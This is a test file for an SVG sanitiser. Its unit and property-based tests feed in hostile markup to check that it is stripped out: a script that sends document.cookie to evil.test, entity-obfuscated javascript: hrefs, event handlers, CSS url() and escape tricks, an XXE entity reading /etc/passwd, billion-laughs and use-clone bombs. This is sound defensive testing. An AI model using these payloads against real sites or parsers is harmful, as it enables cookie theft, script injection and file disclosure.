import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { propertyRuns } from '../testing/property-runs';
import {
  parseSvg,
  sanitizeSvg,
  serializeSvg,
  SVG_LIMITS,
  type SvgElement,
  type SvgRemoval,
} from './sanitize-svg';

const NS = 'xmlns="http://www.w3.org/2000/svg"';

/** The tags of clean markup (text is escaped in it, so every `<` starts a tag). */
function tagsOf(svg: string): string[] {
  return [...svg.matchAll(/<[^>]*>/g)].map((m) => m[0]);
}

/** Each attribute of each tag as [name, value] (the serialiser always writes `name="value"`). */
function attributesOf(svg: string): [string, string][] {
  return tagsOf(svg).flatMap((tag) =>
    [...tag.matchAll(/\s([^\s="]+)="([^"]*)"/g)].map((m): [string, string] => [m[1]!, m[2]!]),
  );
}

/** What a clean picture must never hold, as a list of findings (empty: clean). */
function dangers(svg: string): string[] {
  const found: string[] = [];
  if (/<\s*\/?\s*(script|style|foreignobject|iframe|image|a)\b/i.test(svg)) found.push('tag');
  if (/<!|<\?/.test(svg)) found.push('declaration');
  for (const tag of tagsOf(svg)) {
    // Every tag is a whole allowlisted one: `<name a="v" …>`, `</name>` or `<name …/>`.
    if (!/^<\/?[A-Za-z]+(\s[^\s="]+="[^"<>]*")*\s*\/?>$/.test(tag)) found.push(`odd tag ${tag}`);
  }
  for (const [name, value] of attributesOf(svg)) {
    if (/^on/i.test(name)) found.push(`handler ${name}`);
    if (/href$/i.test(name) && !/^#[A-Za-z_][\w.-]*$/.test(value)) found.push(`href ${value}`);
    const urls = value.match(/url\s*\(([^)]*)\)/gi) ?? [];
    for (const url of urls) {
      if (!/^url\(\s*(&quot;|')?#[A-Za-z_][\w.-]*(&quot;|')?\s*\)$/i.test(url))
        found.push(`url ${url}`);
    }
    if (value.includes('\\')) found.push('css escape');
    if (/javascript|expression\s*\(|@import/i.test(value)) found.push(`value ${value}`);
  }
  return found;
}

const kinds = (removed: readonly SvgRemoval[]) => removed.map((r) => `${r.kind} ${r.name}`);

describe('SVG sanitiser', () => {
  it('keeps a drawing as it was: shapes, text, gradients, use of a symbol, styles', () => {
    const drawing =
      `<svg ${NS} viewBox="0 0 200 100" width="200" height="100">` +
      '<defs><linearGradient id="steel" x1="0" y1="0" x2="1" y2="0">' +
      '<stop offset="0" stop-color="#888"/><stop offset="1" stop-color="#eee"/></linearGradient>' +
      '<symbol id="valve" viewBox="0 0 10 10"><polygon points="0,0 10,10 10,0 0,10"/></symbol>' +
      '<clipPath id="c"><rect width="50" height="50"/></clipPath></defs>' +
      '<g id="tank" transform="translate(10, 5) scale(2)" clip-path="url(#c)">' +
      '<rect id="body" x="0" y="0" width="40" height="30" rx="3" fill="url(#steel)" stroke="#333" stroke-width="0.5"/>' +
      '<circle cx="20" cy="15" r="4" style="fill:rgb(200,0,0);stroke-dasharray:1 2"/></g>' +
      '<use href="#valve" x="100" y="10" width="20" height="20"/>' +
      '<path d="M10 80 L 190 80 z" stroke="blue"/>' +
      '<text id="temp" x="60" y="60" font-family="\'DejaVu Sans\', sans-serif" text-anchor="middle">72.5 <tspan font-weight="bold">°C</tspan></text>' +
      '<title>Tank &amp; valve</title></svg>';
    const result = sanitizeSvg(drawing);
    expect(result.removed).toEqual([]);
    expect(result.svg).toBe(drawing);
  });

  it('drops scripts, in CDATA too, with whatever they hold, and says so', () => {
    const result = sanitizeSvg(
      `<svg ${NS}><script type="text/javascript"><![CDATA[ document.location = "https://evil.test/?" + document.cookie; ]]></script><rect width="1" height="1"/></svg>`,
    );
    expect(result.svg).toBe(`<svg ${NS}><rect width="1" height="1"/></svg>`);
    expect(kinds(result.removed)).toEqual(['element script']);
  });

  it('matches names in any case, as an HTML parser would: <SCRIPT>, <ScRiPt>, ONLOAD', () => {
    const result = sanitizeSvg(
      `<SVG ${NS} VIEWBOX="0 0 1 1" ONLOAD="alert(1)"><ScRiPt>alert(1)</ScRiPt><RECT WIDTH="1" OnClick="x()"/><LinearGradient id="g"/></SVG>`,
    );
    expect(result.svg).toBe(
      `<svg ${NS} viewBox="0 0 1 1"><rect width="1"/><linearGradient id="g"/></svg>`,
    );
    expect(kinds(result.removed)).toEqual([
      'attribute ONLOAD',
      'element ScRiPt',
      'attribute OnClick',
    ]);
  });

  it('takes every event handler off', () => {
    const handlers = ['onload', 'onclick', 'onmouseover', 'onfocusin', 'onbegin', 'onanimationend'];
    const markup = `<svg ${NS}><rect ${handlers.map((h) => `${h}="alert(1)"`).join(' ')} width="2"/></svg>`;
    const result = sanitizeSvg(markup);
    expect(result.svg).toBe(`<svg ${NS}><rect width="2"/></svg>`);
    expect(kinds(result.removed)).toEqual(handlers.map((h) => `attribute ${h}`));
  });

  it('keeps only local hrefs: javascript: behind entities, whitespace and controls, http, data', () => {
    const hrefs = [
      'javascript:alert(1)',
      ' &#106;avascript:alert(1)',
      'java&#x09;script:alert(1)',
      'jav&#x0A;ascript:alert(1)',
      '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
      'JaVaScRiPt:alert(1)',
      'data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+',
      'http://evil.test/sprite.svg#icon',
      '//evil.test/sprite.svg#icon',
      'sprite.svg#icon',
    ];
    for (const href of hrefs) {
      for (const attribute of ['href', 'xlink:href', 'XLINK:HREF']) {
        const result = sanitizeSvg(`<svg ${NS}><use ${attribute}="${href}"/></svg>`);
        expect(result.svg, `${attribute}=${href}`).toBe(`<svg ${NS}><use/></svg>`);
        expect(kinds(result.removed)).toEqual([`link ${attribute}`]);
      }
    }
    // A local one stays, written as SVG 2's plain href.
    expect(sanitizeSvg(`<svg ${NS}><g id="a"/><use xlink:href=" #a "/></svg>`).svg).toBe(
      `<svg ${NS}><g id="a"/><use href="#a"/></svg>`,
    );
  });

  it('keeps url(#id) only, in attributes and in style, and no CSS escapes or expressions', () => {
    const result = sanitizeSvg(
      `<svg ${NS}>` +
        '<rect fill="url(http://evil.test/a.svg#p)" stroke="url( \'#ok\' )"/>' +
        '<rect style="fill: url(https://evil.test/x); stroke: red; behavior: url(x.htc)"/>' +
        '<rect style="fill:u\\72l(http://evil.test)"/>' +
        '<rect fill="expression(alert(1))" stroke="red;background:url(x)"/>' +
        '<rect style="fill:red;stroke:blue" clip-path="url(&quot;#c&quot;)"/>' +
        '</svg>',
    );
    expect(result.svg).toBe(
      `<svg ${NS}>` +
        '<rect stroke="url( \'#ok\' )"/>' +
        '<rect style="stroke:red"/>' +
        '<rect/>' +
        '<rect/>' +
        '<rect style="fill:red;stroke:blue" clip-path="url(&quot;#c&quot;)"/>' +
        '</svg>',
    );
    expect(kinds(result.removed)).toEqual([
      'link fill',
      'style behavior',
      'style fill',
      'attribute fill',
      'link stroke',
    ]);
    expect(dangers(result.svg)).toEqual([]);
  });

  it('drops foreignObject with the HTML inside it, nested as deep as it goes', () => {
    const result = sanitizeSvg(
      `<svg ${NS}><g><foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><svg><g><text>inner</text></g></svg><iframe src="https://evil.test"></iframe><img src="x" onerror="alert(1)"/><script>alert(1)</script></div></foreignObject><text>kept</text></g></svg>`,
    );
    expect(result.svg).toBe(`<svg ${NS}><g><text>kept</text></g></svg>`);
    expect(kinds(result.removed)).toEqual(['element foreignObject']);
  });

  it('never expands entities: DOCTYPE and ENTITY declarations go, their references stay text', () => {
    const laughs =
      '<?xml version="1.0"?><!DOCTYPE svg [' +
      '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">' +
      '<!ENTITY xxe SYSTEM "file:///etc/passwd"> <!-- ] > -->' +
      `]><svg ${NS}><text>&lol3; &xxe; &amp; &#65;&#x42; &lt;tag&gt;</text></svg>`;
    const result = sanitizeSvg(laughs);
    expect(result.svg).toBe(
      `<svg ${NS}><text>&amp;lol3; &amp;xxe; &amp; AB &lt;tag&gt;</text></svg>`,
    );
    expect(kinds(result.removed)).toEqual(['declaration DOCTYPE']);
    // A declaration in the middle of the picture goes too.
    expect(kinds(sanitizeSvg(`<svg ${NS}><!ENTITY x "y"><g/></svg>`).removed)).toEqual([
      'declaration ENTITY',
    ]);
  });

  it('drops processing instructions and comments; the XML declaration without a word', () => {
    const result = sanitizeSvg(
      `<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet href="https://evil.test/a.css"?><!-- made by hand --><svg ${NS}><!-- <script>alert(1)</script> --><g/></svg><!-- after`,
    );
    expect(result.svg).toBe(`<svg ${NS}><g/></svg>`);
    expect(kinds(result.removed)).toEqual(['instruction xml-stylesheet', 'comment comment']);
    expect(result.removed.find((r) => r.kind === 'comment')?.count).toBe(3);
  });

  it('closes what is left open, and drops a tag or a quote that never ends', () => {
    expect(sanitizeSvg(`<svg ${NS}><g><rect width="1"/><text>a`).svg).toBe(
      `<svg ${NS}><g><rect width="1"/><text>a</text></g></svg>`,
    );
    const broken = sanitizeSvg(`<svg ${NS}><rect width="1"/><rect onload="alert(1)`);
    expect(broken.svg).toBe(`<svg ${NS}><rect width="1"/></svg>`);
    expect(kinds(broken.removed)).toEqual(['malformed rect']);
    // A tag cut off by the next one: the next is read as a tag of its own (and dropped).
    expect(sanitizeSvg(`<svg ${NS}><rect width="1" <script>alert(1)</script></svg>`).svg).toBe(
      `<svg ${NS}><rect width="1"/></svg>`,
    );
    // End tags that close nothing, and a stray '<'.
    expect(sanitizeSvg(`<svg ${NS}></g></script><text>a < b</text></svg>`).svg).toBe(
      `<svg ${NS}><text>a &lt; b</text></svg>`,
    );
  });

  it('needs one svg root: nothing else at the top, nothing after it', () => {
    expect(sanitizeSvg('<html><body><p>hello</p></body></html>').svg).toBe('');
    expect(sanitizeSvg('just text').svg).toBe('');
    expect(sanitizeSvg('').svg).toBe('');
    const after = sanitizeSvg(`<svg ${NS}><g/></svg><svg><rect/></svg><script>x</script>`);
    expect(after.svg).toBe(`<svg ${NS}><g/></svg>`);
    expect(kinds(after.removed)).toEqual(['element svg', 'element script']);
  });

  it('drops text outside text elements and whitespace between elements', () => {
    expect(sanitizeSvg(`<svg ${NS}>\n  <g>stray\n    <rect/>\n  </g>\n</svg>\n`).svg).toBe(
      `<svg ${NS}><g><rect/></g></svg>`,
    );
    expect(sanitizeSvg(`<svg ${NS}><text xml:space="preserve">  a  b  </text></svg>`).svg).toBe(
      `<svg ${NS}><text xml:space="preserve">  a  b  </text></svg>`,
    );
  });

  it('bounds nesting, elements and what use may clone', () => {
    const deep = `<svg ${NS}>${'<g>'.repeat(60)}<rect/>${'</g>'.repeat(60)}</svg>`;
    const cut = parseSvg(deep);
    let depth = 0;
    for (let node: SvgElement | undefined = cut.root ?? undefined; node; depth++)
      node = node.children[0]?.kind === 'element' ? node.children[0] : undefined;
    expect(depth).toBe(SVG_LIMITS.depth);
    expect(kinds(cut.removed)).toEqual(['limit depth']);

    const many = `<svg ${NS}>${'<rect/>'.repeat(SVG_LIMITS.elements + 10)}</svg>`;
    const bounded = parseSvg(many);
    expect(bounded.root?.children.length).toBe(SVG_LIMITS.elements - 1);
    expect(bounded.removed).toEqual([{ kind: 'limit', name: 'elements', count: 11 }]);

    // A use of a group of uses multiplies: refused. Plain uses stay within the clone budget.
    const bomb =
      `<svg ${NS}><g id="a"><rect/><rect/></g>` +
      `<g id="b">${'<use href="#a"/>'.repeat(10)}</g>` +
      `<g id="c">${'<use href="#b"/>'.repeat(10)}</g><use href="#c"/></svg>`;
    const defused = sanitizeSvg(bomb);
    expect(defused.svg).toBe(
      `<svg ${NS}><g id="a"><rect/><rect/></g><g id="b">${'<use href="#a"/>'.repeat(10)}</g><g id="c"/></svg>`,
    );
    expect(defused.removed).toEqual([{ kind: 'link', name: 'use', count: 11 }]);
    const big = `<g id="big">${'<rect/>'.repeat(999)}</g>`;
    const clones = sanitizeSvg(`<svg ${NS}>${big}${'<use href="#big"/>'.repeat(30)}</svg>`);
    expect(tagsOf(clones.svg).filter((t) => t.startsWith('<use')).length).toBe(
      SVG_LIMITS.useClones / 1000,
    );
    expect(clones.removed).toEqual([{ kind: 'limit', name: 'use', count: 10 }]);
  });

  it('writes back only allowlisted names from a tree given to it', () => {
    const tree = {
      kind: 'element',
      name: 'svg',
      attributes: { viewBox: '0 0 1 1', onload: 'alert(1)' },
      children: [
        {
          kind: 'element',
          name: 'script',
          attributes: {},
          children: [{ kind: 'text', text: 'x' }],
        },
        {
          kind: 'element',
          name: 'text',
          attributes: { fill: 'a"b<c' },
          children: [{ kind: 'text', text: '</text><script>' }],
        },
      ],
    } as unknown as SvgElement;
    expect(serializeSvg(tree)).toBe(
      `<svg ${NS} viewBox="0 0 1 1"><text fill="a&quot;b&lt;c">&lt;/text&gt;&lt;script&gt;</text></svg>`,
    );
  });

  it('answers a large hostile input in linear time', () => {
    const chunk = '<g a="1" b=\'2\' c=3 d>\n<!-- x --><![CDATA[y]]>&amp;&#65;<';
    const input = `<svg ${NS}>${chunk.repeat(15_000)}`;
    const started = performance.now();
    const result = sanitizeSvg(input);
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(dangers(result.svg)).toEqual([]);
  });
});

/** Pieces of markup, hostile and plain, that fast-check strings together. */
const FRAGMENTS = [
  `<svg ${NS}>`,
  '<svg>',
  '</svg>',
  '<g>',
  '</g>',
  '<text>',
  '</text>',
  '<rect width="1"/>',
  '<use href="#a"/>',
  '<g id="a">',
  '<script>',
  '</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<foreignObject><div><script>alert(1)</script></div></foreignObject>',
  '<foreignObject>',
  '<!-- ',
  ' -->',
  '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>',
  '&x;',
  '<?xml-stylesheet href="http://evil.test/a.css"?>',
  '<use xlink:href="http://evil.test/a.svg#x"/>',
  '<use href="&#106;avascript:alert(1)"/>',
  '<use href="java\tscript:alert(1)"/>',
  '<rect onload="alert(1)" ONCLICK=alert(2) onmouseover=\'x\'/>',
  '<rect style="fill:url(http://evil.test/p);stroke:red"/>',
  '<rect fill="url(#a)" stroke="url(data:x)"/>',
  '<rect style="fill:u\\72l(http://evil.test)"/>',
  '<a href="javascript:alert(1)">',
  '</a>',
  '<image href="http://evil.test/x.png"/>',
  '<style>@import url(http://evil.test/a.css);</style>',
  '<rect x="1',
  '"',
  "'",
  '<',
  '>',
  '=',
  '/',
  '&',
  '&amp;',
  '&lt;script&gt;',
  ' on',
  'load=',
  'href=',
  'javascript:',
  ' ',
  '\n',
] as const;

/** Mostly inside a root (else most inputs would be no picture at all). */
const markup = fc
  .tuple(
    fc.constantFrom('', `<svg ${NS}>`, '<SVG>', `<svg ${NS}><g><text>`),
    fc.array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 8 })), {
      maxLength: 40,
    }),
  )
  .map(([start, parts]) => start + parts.join(''));

describe('SVG sanitiser properties', () => {
  it('is idempotent, and what it gives holds no script, handler or outside reference', () => {
    fc.assert(
      fc.property(markup, (input) => {
        const once = sanitizeSvg(input).svg;
        const twice = sanitizeSvg(once);
        expect(twice.svg).toBe(once);
        expect(twice.removed).toEqual([]);
        expect(dangers(once)).toEqual([]);
        if (once !== '') expect(once.startsWith(`<svg ${NS}`)).toBe(true);
      }),
      { numRuns: propertyRuns(2_000) },
    );
  });

  it('takes any string without throwing', () => {
    // Any code point, lone surrogates included, with markup's own characters often: fast-check's
    // `unit: 'binary'` spent ~2 s building its tables on first use (past 5 s on a busy machine).
    const codePoint = (max: number) => fc.nat({ max }).map((c) => String.fromCodePoint(c));
    const unit = fc.oneof(
      fc.constantFrom('<', '>', '/', '=', '"', "'", '&', ';', '#', ':', ' ', '<svg', 'script'),
      codePoint(0x7f),
      codePoint(0x10ffff),
    );
    fc.assert(
      fc.property(fc.string({ maxLength: 300, unit }), (input) => {
        const once = sanitizeSvg(input).svg;
        expect(sanitizeSvg(once).svg).toBe(once);
      }),
      { numRuns: propertyRuns(500) },
    );
  });
});
